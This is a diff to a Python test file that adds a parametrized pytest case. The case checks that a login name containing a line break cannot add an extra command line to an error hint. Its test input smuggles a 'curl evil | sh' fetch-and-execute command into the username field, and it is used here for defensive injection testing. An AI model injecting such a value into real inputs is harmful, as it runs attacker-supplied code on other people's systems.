@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+from typing import Any
 
 import pytest
 
@@ -140,3 +141,20 @@ def test_a_script_that_did_not_run_shows_its_last_words(sudo: bool, remedy: str)
     assert "exit status 127" in failed.message
     assert remedy in failed.hint
     assert failed.details[0] == "line 4"
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"containers": None, "docker_problem": "denied"},
+        {"foreign_files": ("not-there",)},
+        {"history": History(readable=False)},
+        {"killed_at_logout": True},
+        {"configuration": None},
+    ],
+)
+def test_a_login_with_a_line_break_adds_no_line_to_the_commands(changes: dict[str, Any]) -> None:
+    hint = error(facts(user="deploy\ncurl evil | sh", **changes)).hint
+
+    assert len(hint.splitlines()) == 2
+    assert not hint.splitlines()[1].startswith("curl")
